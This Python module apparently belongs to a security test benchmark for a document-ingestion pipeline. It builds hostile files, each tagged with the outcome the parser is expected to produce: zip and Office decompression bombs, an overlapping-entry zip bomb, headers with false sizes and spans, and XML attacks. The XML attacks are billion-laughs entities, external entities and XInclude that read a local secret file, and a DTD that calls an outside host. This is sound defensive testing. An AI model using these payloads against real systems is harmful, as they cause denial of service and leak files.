"""Archives and documents that would swell, sizes that are claimed, and attacks by XML."""

from __future__ import annotations

import struct
import zlib

from benchmarks.hostile_files.making import Hostile, Makings, good, zipped
from tests.rag import files


def bomb(m: Makings) -> Hostile:
    """Little that unpacks to much."""
    kind = m.pick("zip", "docx", "xlsx", "nested", "many", "overlap", "pdf", "parts")
    zeros = bytes(60 * 2**20)
    if kind == "zip":
        return Hostile(f"bomb{m.tag}.zip", zipped({f"{m.tag}.txt": zeros}), "refused")
    if kind == "docx":
        data = files.repack(good(m, ".docx"), {"word/document.xml": b"<w>" + zeros})
        return Hostile(f"bomb{m.tag}.docx", data, "refused")
    if kind == "xlsx":
        data = files.repack(good(m, ".xlsx"), {"xl/worksheets/sheet1.xml": b"<w>" + zeros})
        return Hostile(f"bomb{m.tag}.xlsx", data, "refused")
    if kind == "nested":
        data = zipped({"0.zip": zeros[: 2**20]})
        for level in range(5):
            data = zipped({f"{m.tag}{level}{n}.zip": data for n in range(4)})
        return Hostile(f"nested{m.tag}.zip", data, "refused")
    if kind == "many":
        return Hostile(f"many{m.tag}.zip", zipped({f"{m.tag}/{n}.md": b"x" for n in range(20_001)}), "refused")
    if kind == "overlap":
        return Hostile(f"overlap{m.tag}.zip", _overlapping(m.tag), "refused")
    if kind == "pdf":
        return Hostile(f"bomb{m.tag}.pdf", files.make_pdf(["x"], page_bytes=60 * 2**20), "refused")
    data = files.repack(good(m, ".docx"), {f"word/media/{n}.xml": b"<a/>" for n in range(10_001)})
    return Hostile(f"parts{m.tag}.docx", data, "refused")


def _overlapping(tag: str) -> bytes:
    """Many entries of a directory that share one packed text (after Fifield 2019)."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    text = bytes(2**20)
    body = packed.compress(text) + packed.flush()
    crc = zlib.crc32(text)
    sizes = struct.pack("<III", crc, len(body), len(text))
    name = f"{tag}.txt".encode()
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", len(name), 0) + name
    entries = b""
    for _ in range(2000):
        entries += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 33) + sizes
        entries += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    start = len(local) + len(body)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 2000, 2000, len(entries), start, 0)
    return local + body + entries + end


def claim(m: Makings) -> Hostile:
    """Numbers in a header that no program should believe."""
    kind = m.pick("docx", "zip", "pdf count", "pdf length", "xlsx", "sheet", "html", "docx span", "csv", "pdf size")
    gigabyte = 2**30
    if kind == "docx":
        data = files.declare_size(good(m, ".docx"), "word/document.xml", gigabyte)
        return Hostile(f"claims{m.tag}.docx", data, "refused")
    if kind == "zip":
        data = files.declare_size(zipped({f"{m.tag}.md": m.text.encode()}), f"{m.tag}.md", gigabyte)
        return Hostile(f"claims{m.tag}.zip", data, "refused")
    if kind == "pdf count":
        return Hostile(f"pages{m.tag}.pdf", good(m, ".pdf").replace(b"/Count ", b"/Count 1000000000 % "))
    if kind == "pdf length":
        return Hostile(f"length{m.tag}.pdf", good(m, ".pdf").replace(b"/Length ", b"/Length 1073741824 % "))
    if kind == "pdf size":
        return Hostile(f"size{m.tag}.pdf", good(m, ".pdf").replace(b"/Size ", b"/Size 2147483647 % "))
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    if kind == "xlsx":
        cells = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        xml = f'<worksheet xmlns="{main}"><dimension ref="A1:XFD1048576"/><sheetData>{cells}</sheetData></worksheet>'
        data = files.repack(good(m, ".xlsx"), {"xl/worksheets/sheet1.xml": xml.encode()})
        return Hostile(f"far{m.tag}.xlsx", data)
    if kind == "sheet":
        rows = "".join(f'<row r="{r}"><c r="XFD{r}"/></row>' for r in range(1, 5000))
        xml = f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'
        data = files.repack(good(m, ".xlsx"), {"xl/worksheets/sheet1.xml": xml.encode()})
        return Hostile(f"wide{m.tag}.xlsx", data, "refused")
    if kind == "html":
        table = "<table><tr><td colspan=999999999 rowspan=999999999>x<td>y</tr><tr><td>z</tr></table>"
        return Hostile(f"span{m.tag}.html", (table * 3 + f"<p>{m.keep}</p>").encode(), "added", m.keep)
    if kind == "docx span":
        word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
        cell = '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>'
        xml = f'<w:document xmlns:w="{word}"><w:body><w:tbl><w:tr>{cell * 2}</w:tr></w:tbl></w:body></w:document>'
        return Hostile(f"span{m.tag}.docx", files.repack(good(m, ".docx"), {"word/document.xml": xml.encode()}))
    return Hostile(f"quote{m.tag}.csv", ('a,b\n"' + "x" * 200_000 + ",1\n" * 1000).encode())


def xml_attack(m: Makings) -> Hostile:
    """Entities that swell, that read files and that call out."""
    kind = m.pick("laughs", "file", "call", "utf-16", "include", "deep", "laughs sheet")
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    heads = {
        "laughs": f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>',
        "laughs sheet": f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>',
        "file": f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "{m.secret.as_uri()}">]>',
        "call": f'<!DOCTYPE x SYSTEM "{m.outside}/x.dtd" [<!ENTITY l9 SYSTEM "{m.outside}/e">]>',
        "utf-16": f'<!DOCTYPE x [<!ENTITY l9 SYSTEM "{m.secret.as_uri()}">]>',
    }
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>"
    if kind == "include":
        body = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{m.secret.as_uri()}"/>'
    elif kind == "deep":
        body = "<w:sdt>" * 50_000
    xml = f'{heads.get(kind, "")}<w:document xmlns:w="{word}"><w:body>{body}</w:body></w:document>'
    data = xml.encode("utf-16") if kind == "utf-16" else xml.encode()
    suffix, part = (".xlsx", "xl/sharedStrings.xml") if kind == "laughs sheet" else (".docx", "word/document.xml")
    made = files.repack(good(m, suffix), {part: data})
    return Hostile(f"xml{m.tag}{suffix}", made, "refused")
